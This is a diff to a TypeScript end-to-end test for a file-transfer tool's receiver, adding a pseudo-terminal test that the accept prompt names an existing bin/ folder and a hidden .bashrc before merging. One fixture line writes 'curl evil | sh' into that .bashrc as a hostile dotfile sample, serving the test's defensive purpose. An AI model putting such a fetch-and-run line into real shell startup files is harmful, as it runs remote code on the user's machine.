@@ -3,13 +3,14 @@
  * the person's leave (PROTOCOL.md section 6 step 2), that a failed commit lands nothing (section 6),
  * and what a refusal before ACCEPT tells the peer (only the code; the person sees the details).
  */
+import { spawn, spawnSync } from 'node:child_process';
 import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { afterAll, describe, expect } from 'vitest';
 import { Intent } from '../../src/protocol/handshake-messages.js';
 import { RecordType } from '../../src/protocol/records.js';
 import { partFileName } from '../../src/transport/destination.js';
-import { killLeftovers } from '../support/cli.js';
+import { DEFAULT_WAIT_MS, killLeftovers, LOOPBACK, SEALDROP_BIN } from '../support/cli.js';
 import { e2e, type E2EScope } from '../support/e2e.js';
 import { listTree, setMtimeExactMs, sha256Hex } from '../support/files.js';
 import { TestPeer } from '../support/test-peer.js';
@@ -191,4 +192,49 @@ describe('a refusal before ACCEPT tells the peer only the code', () => {
       expect(sender.stderr).not.toMatch(/already exists|symbolic link/);
     }
   });
+});
+
+/** `script` (util-linux) gives the receiver a terminal, so that it asks instead of declining. */
+const hasScript = spawnSync('script', ['--version']).status === 0;
+
+describe.runIf(hasScript)('section 6 step 2 at a terminal (needs script(1) from util-linux)', () => {
+  /** Runs `sealdrop receive` on a pseudo-terminal; `answer` is typed once the question shows. */
+  async function askedReceiver(sd: E2EScope, answer: string) {
+    const quoted = (word: string) => `'${word}'`; // the test's own paths: no quote in them
+    const command = `stty cols 100 rows 40; exec ${quoted(process.execPath)} ${quoted(SEALDROP_BIN)} receive --quiet --host ${LOOPBACK} --port 0 --out ${quoted(sd.ws.out)}`;
+    const child = spawn('script', ['-qfec', command, '/dev/null'], { env: { ...process.env, SEALDROP_CODE: CODE }, stdio: ['pipe', 'pipe', 'pipe'] });
+    let shown = '';
+    child.stdout.on('data', (chunk: Buffer) => (shown += chunk.toString().replace(/\r/g, '')));
+    const exited = new Promise<number | null>((resolve) => child.once('close', resolve));
+    const waitFor = async (pattern: RegExp) => {
+      for (let waited = 0; !pattern.test(shown); waited += 20) {
+        if (waited > DEFAULT_WAIT_MS || child.exitCode !== null) throw new Error(`no ${pattern} in:\n${shown}`);
+        await new Promise((resolve) => setTimeout(resolve, 20));
+      }
+      return pattern.exec(shown)!;
+    };
+    const port = Number((await waitFor(/--to 127\.0\.0\.1:(\d+)/))[1]);
+    const answered = waitFor(/\[y\/N\] /).then(() => child.stdin.write(`${answer}\n`));
+    answered.catch(() => undefined);
+    return { port, answered, exited, shown: () => shown, kill: () => child.kill('SIGKILL') };
+  }
+
+  for (const [answer, status, landed] of [['y', 0, true], ['n', 4, false]] as const) {
+    e2e(`the question names the existing bin/ and the hidden .bashrc; "${answer}" ${landed ? 'merges' : 'declines'}`, async ({ sd }) => {
+      writeTree(sd.ws.src, { 'bin/ls': 'not really ls\n', '.bashrc': 'curl evil | sh\n' });
+      writeTree(sd.ws.out, { 'bin/true': 'mine\n' });
+      const receiver = await askedReceiver(sd, answer);
+      try {
+        const sources = [path.join(sd.ws.src, 'bin'), path.join(sd.ws.src, '.bashrc')];
+        const sender = sd.startSender({ to: `${LOOPBACK}:${receiver.port}`, code: CODE, paths: sources });
+        await receiver.answered;
+        expect(await sender.waitForExit(), sender.describe()).toBe(status);
+        expect(await receiver.exited, receiver.shown()).toBe(status);
+        expect(receiver.shown()).toContain('The offer writes into existing bin/, and creates hidden .bashrc. Accept 2 files (29 B) and merge? [y/N] ');
+        expect(listTree(sd.ws.out)).toEqual(landed ? ['.bashrc', 'bin/', 'bin/ls', 'bin/true'] : ['bin/', 'bin/true']);
+      } finally {
+        receiver.kill();
+      }
+    });
+  }
 });
